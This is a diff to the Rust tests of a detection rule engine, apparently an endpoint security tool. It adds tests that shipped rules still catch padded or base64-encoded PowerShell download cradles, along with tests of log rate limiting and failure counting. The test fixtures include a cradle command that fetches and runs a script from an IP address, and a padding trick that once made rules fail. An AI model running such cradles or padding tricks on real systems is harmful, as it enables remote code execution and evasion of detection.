@@ -18,16 +18,20 @@ fn problems(source: &str) -> Vec<(usize, usize, &'static str, String)> {
 }
 
 fn evaluate(rules: &[&str], event: &Event) -> (Vec<Detection>, Vec<RuleFailure>) {
+    evaluate_with(&RuleLimits::default(), rules, event)
+}
+
+fn evaluate_with(
+    limits: &RuleLimits,
+    rules: &[&str],
+    event: &Event,
+) -> (Vec<Detection>, Vec<RuleFailure>) {
     let definitions: Vec<Arc<RuleDefinition>> = rules
         .iter()
         .map(|s| Arc::new(load(s).expect("rule loads")))
         .collect();
-    let mut engine = RuleEngine::build(
-        &definitions,
-        &RuleLimits::default(),
-        &crate::intel::IntelHandle::default(),
-    )
-    .expect("builds");
+    let mut engine = RuleEngine::build(&definitions, limits, &crate::intel::IntelHandle::default())
+        .expect("builds");
     let (mut detections, mut failures) = (Vec::new(), Vec::new());
     engine.evaluate(event, &[], &mut detections, &mut failures);
     (detections, failures)
@@ -140,7 +144,9 @@ fn detect(event) { #{ severity: "apocalyptic" } }"#;
     let spins = r#"let rule = #{ id: "spins", title: "S", severity: "low", events: ["process_create"] };
 fn detect(event) { let n = 0; while true { n += 1; } }"#;
     let fine = format!("{HEADER}\nfn detect(event) {{ event.name == \"cmd.exe\" }}");
-    let (detections, failures) = evaluate(
+    // The operations limit is what should stop `spins`, not a busy machine's clock.
+    let (detections, failures) = evaluate_with(
+        &sizes_only(),
         &[broken, bad_return, spins, &fine],
         &process("cmd.exe", "x"),
     );
@@ -268,4 +274,268 @@ fn detect(event) { true }"#;
             .iter()
             .any(|p| p.3.contains("indicator kinds"))
     );
+}
+
+/// Loads a shipped rule by its file name under `rules/`.
+fn shipped(name: &str) -> String {
+    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("rules")
+        .join(name);
+    std::fs::read_to_string(&path).expect("the shipped rule exists")
+}
+
+fn powershell(cmdline: String) -> Event {
+    let mut event = Event::new("padded", EventKind::ProcessCreate, 0);
+    event.pid = Some(6100);
+    event.name = Some("powershell.exe".into());
+    event.parent_name = Some("winword.exe".into());
+    event.cmdline = Some(cmdline);
+    event
+}
+
+fn utf16_base64(text: &str) -> String {
+    use base64::Engine as _;
+    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    base64::engine::general_purpose::STANDARD.encode(bytes)
+}
+
+/// The default limits with a time budget a debug build on a busy machine cannot run out of:
+/// the padded-event tests are about the size limits, and the time budget has its own tests.
+fn sizes_only() -> RuleLimits {
+    RuleLimits {
+        time_budget_ms: 10_000,
+        ..RuleLimits::default()
+    }
+}
+
+// Defect 3: a command line padded past the script string limit made the shipped rules fail
+// with `size limit: Length of string`, so the cradle went undetected and nothing was killed.
+#[test]
+fn padded_download_cradle_still_fires_the_shipped_rules() {
+    let cradle = "powershell.exe -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://185.12.33.4/a.ps1')\"";
+    for cmdline in [
+        format!("{cradle}{}", " ".repeat(70_000)),
+        format!("{}{cradle}", " ".repeat(70_000)),
+        format!(
+            "powershell.exe {} -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"",
+            "-nop ".repeat(100_000)
+        ),
+    ] {
+        assert!(cmdline.len() < crate::event::MAX_EVENT_BYTES);
+        let rule = shipped("powershell_download_cradle.rhai");
+        let (detections, failures) = evaluate_with(&sizes_only(), &[&rule], &powershell(cmdline));
+        assert_eq!(failures, [], "the rule must not fail on a padded event");
+        assert_eq!(detections.len(), 1);
+        assert_eq!(detections[0].severity, crate::detection::Severity::Critical);
+        assert_eq!(
+            detections[0].entity,
+            Some(Entity::Process {
+                pid: 6100,
+                name: Some("powershell.exe".into())
+            })
+        );
+    }
+}
+
+// Defect 3, its sibling: padding inside the encoded payload (spaces in the decoded script)
+// made the decoded text too long for the script limit.
+#[test]
+fn padded_encoded_powershell_still_fires_the_shipped_rule() {
+    let payload = format!(
+        "{}IEX (New-Object Net.WebClient).DownloadString('http://185.12.33.4/a.ps1'){}",
+        " ".repeat(40_000),
+        " ".repeat(40_000)
+    );
+    let cmdline = format!(
+        "powershell.exe -NoP -W Hidden -Enc {}",
+        utf16_base64(&payload)
+    );
+    assert!(cmdline.len() < crate::event::MAX_EVENT_BYTES);
+    let rule = shipped("encoded_powershell.rhai");
+    let (detections, failures) = evaluate_with(&sizes_only(), &[&rule], &powershell(cmdline));
+    assert_eq!(failures, [], "the rule must not fail on a padded payload");
+    assert_eq!(detections.len(), 1);
+    assert_eq!(detections[0].severity, crate::detection::Severity::Critical);
+}
+
+/// Log output captured while `run` runs on this thread.
+pub(super) fn captured_log(run: impl FnOnce()) -> String {
+    #[derive(Clone, Default)]
+    struct Buffer(Arc<std::sync::Mutex<Vec<u8>>>);
+    impl std::io::Write for Buffer {
+        fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
+            self.0
+                .lock()
+                .expect("not poisoned")
+                .extend_from_slice(bytes);
+            Ok(bytes.len())
+        }
+        fn flush(&mut self) -> std::io::Result<()> {
+            Ok(())
+        }
+    }
+    let buffer = Buffer::default();
+    let writer = buffer.clone();
+    let subscriber = tracing_subscriber::fmt()
+        .with_writer(move || writer.clone())
+        .with_ansi(false)
+        .with_max_level(tracing::Level::INFO)
+        .finish();
+    tracing::subscriber::with_default(subscriber, run);
+    let bytes = buffer.0.lock().expect("not poisoned").clone();
+    String::from_utf8(bytes).expect("the log is text")
+}
+
+// Defect 6, output: `print` in a loop wrote 20 MB of log for one event.
+#[test]
+fn print_in_a_loop_is_rate_limited_per_rule() {
+    let loud = r#"let rule = #{ id: "loud", title: "L", severity: "low", events: ["process_create"] };
+fn detect(event) { let line = "x"; line.pad(5000, "x"); for i in 0..10000 { print(line); } false }"#;
+    let chatty = r#"let rule = #{ id: "chatty", title: "C", severity: "low", events: ["process_create"] };
+fn detect(event) { debug("chatty says hello"); false }"#;
+    let log = captured_log(|| {
+        let definitions: Vec<Arc<RuleDefinition>> = [loud, chatty]
+            .iter()
+            .map(|s| Arc::new(load(s).expect("rule loads")))
+            .collect();
+        let mut engine = RuleEngine::build(
+            &definitions,
+            &sizes_only(),
+            &crate::intel::IntelHandle::default(),
+        )
+        .expect("builds");
+        for _ in 0..3 {
+            let (mut detections, mut failures) = (Vec::new(), Vec::new());
+            engine.evaluate(
+                &process("cmd.exe", "x"),
+                &[],
+                &mut detections,
+                &mut failures,
+            );
+            assert_eq!(failures, []);
+        }
+    });
+    let printed = log.lines().filter(|l| l.contains("xxxxxxxxxx")).count();
+    assert_eq!(printed, PRINT_LINES_PER_WINDOW as usize);
+    let notices = log
+        .lines()
+        .filter(|l| l.contains("rule `loud` reached its output limit"))
+        .count();
+    assert_eq!(notices, 1, "the limit is announced once per window");
+    assert!(
+        log.len() < 64 * 1024,
+        "30,000 prints of 5 KB wrote {} bytes of log",
+        log.len()
+    );
+    assert!(log.lines().all(|l| l.len() < PRINT_LINE_MAX + 300));
+    // `debug` reaches the log at the default level, and the other rule's allowance is its own.
+    let chatty_lines: Vec<&str> = log
+        .lines()
+        .filter(|l| l.contains("chatty says hello"))
+        .collect();
+    assert_eq!(chatty_lines.len(), 3, "{log}");
+}
+
+// Defect 3's other half: the event's size raises the limits only by the event's own data, so a
+// script still cannot build more than `max_string_size` beyond it, and a large event does not
+// raise the limits for the next one.
+#[test]
+fn scripts_still_cannot_build_past_the_size_limit_beyond_the_event() {
+    let builder = format!(
+        "{HEADER}\nfn detect(event) {{ let extra = \"y\"; extra.pad(70000, \"y\"); (event.cmdline + extra).len() > 0 }}"
+    );
+    let reader = format!("{HEADER}\nfn detect(event) {{ event.cmdline.len() > 70000 }}");
+    let definitions: Vec<Arc<RuleDefinition>> = [builder.as_str(), reader.as_str()]
+        .iter()
+        .map(|s| Arc::new(load(s).expect("rule loads")))
+        .collect();
+    let mut engine = RuleEngine::build(
+        &definitions,
+        &sizes_only(),
+        &crate::intel::IntelHandle::default(),
+    )
+    .expect("builds");
+    for cmdline in [" ".repeat(200_000), "short".to_string()] {
+        let (mut detections, mut failures) = (Vec::new(), Vec::new());
+        let long = cmdline.len() > 70_000;
+        engine.evaluate(&powershell(cmdline), &[], &mut detections, &mut failures);
+        let failed: Vec<(&str, &str)> = failures
+            .iter()
+            .map(|f| (&*f.rule, f.message.as_str()))
+            .collect();
+        assert_eq!(failed, [("r", "stopped by a size limit: Length of string")]);
+        assert_eq!(
+            detections.len(),
+            usize::from(long),
+            "the reader sees all of the event"
+        );
+    }
+}
+
+// Item 10: a rule failing on every event wrote one warning per event (2,000 lines for 2,000
+// events). Now its first failure is written, then a count per `FAILURE_REPORT_EVERY`.
+#[test]
+fn a_rule_failing_on_every_event_is_logged_once_and_counted() {
+    let broken = r#"let rule = #{ id: "broken", title: "B", severity: "low", events: ["process_create"] };
+fn detect(event) { event.cmdline.no_such_function() }"#;
+    let definitions = vec![Arc::new(load(broken).expect("loads"))];
+    let mut engine = RuleEngine::build(
+        &definitions,
+        &sizes_only(),
+        &crate::intel::IntelHandle::default(),
+    )
+    .expect("builds");
+    let mut log = FailureLog::default();
+    let start = std::time::Instant::now();
+    let written = captured_log(|| {
+        for n in 0..2000 {
+            let (mut detections, mut failures) = (Vec::new(), Vec::new());
+            let mut event = process("cmd.exe", "x");
+            event.id = format!("e{n}");
+            engine.evaluate(&event, &[], &mut detections, &mut failures);
+            assert_eq!(failures.len(), 1);
+            // The first 1,999 within a minute, the last one a minute later.
+            let at = if n == 1999 {
+                start + FAILURE_REPORT_EVERY
+            } else {
+                start
+            };
+            log.record_at(&failures[0], at);
+        }
+        log.flush();
+    });
+    let lines: Vec<&str> = written.lines().collect();
+    assert_eq!(lines.len(), 2, "{written}");
+    assert!(
+        lines[0].contains("event_id=\"e0\"") || lines[0].contains("event_id=e0"),
+        "{}",
+        lines[0]
+    );
+    assert!(
+        lines[1].contains("1999 more event(s)") && lines[1].contains("2000 in all"),
+        "{}",
+        lines[1]
+    );
+    assert!(lines[1].contains("`e1999`"), "{}", lines[1]);
+    assert_eq!(log.total("broken"), 2000);
+}
+
+#[test]
+fn failures_not_yet_written_are_written_when_the_input_ends() {
+    let failure = RuleFailure {
+        rule: Arc::from("r"),
+        event_id: "e".into(),
+        message: "boom".into(),
+    };
+    let mut log = FailureLog::default();
+    let written = captured_log(|| {
+        for _ in 0..3 {
+            log.record(&failure);
+        }
+        log.flush();
+        log.flush();
+    });
+    let lines: Vec<&str> = written.lines().collect();
+    assert_eq!(lines.len(), 2, "{written}");
+    assert!(lines[1].contains("2 more event(s)"), "{}", lines[1]);
 }
